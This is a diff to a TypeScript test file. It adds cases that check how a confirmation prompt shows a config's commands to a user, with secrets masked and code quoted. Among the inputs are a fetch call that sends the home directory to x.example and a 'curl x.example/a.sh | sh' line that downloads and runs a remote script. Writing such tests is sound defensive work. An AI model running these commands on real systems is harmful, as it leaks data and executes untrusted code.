@@ -66,6 +66,25 @@ describe("the commands of a config that was found", () => {
     expect(shown).toBe("  weather runs: node weather.js --api-key ***\n");
   });
 
+  it.each<[string, string[], string]>([
+    ["a version", ["-y", "@scope/pkg@2026.8.31", "."], "-y @scope/pkg@2026.8.31 ."],
+    [
+      "code",
+      ["-e", "fetch('http://x.example/' + process.env.HOME)"],
+      `-e "fetch('http://x.example/' + process.env.HOME)"`,
+    ],
+    ["code that begins with a name", ["-e", "a=require('fs')"], `-e "a=require('fs')"`],
+    ["a variable of a container", ["-e", "MODE=s3cret"], "-e MODE=***"],
+    ["code of a shell", ["-c", "curl x.example/a.sh | sh"], '-c "curl x.example/a.sh | sh"'],
+    ["a key in code", ["-c", "run --token=s3cretValue99 now"], '-c "run --token=*** now"'],
+    ["a key without a name", ["sk-live-0123456789abcdef"], "***"],
+    ["a pair", ["-u", "bob:s3cret"], "-u bob:***"],
+    ["a flag of its own", ["--mode=Very Odd!"], '"--mode=Very Odd!"'],
+  ])("show %s as a person has to see it", async (_, args, want) => {
+    const { shown } = await confirm({ weather: { command: "run", args } });
+    expect(shown).toBe(`  weather runs: run ${want}\n`);
+  });
+
   it.each<[string, Ask, boolean]>([
     ["nobody can be asked", {}, false],
     ["--yes is given", { given: { yes: true } }, true],
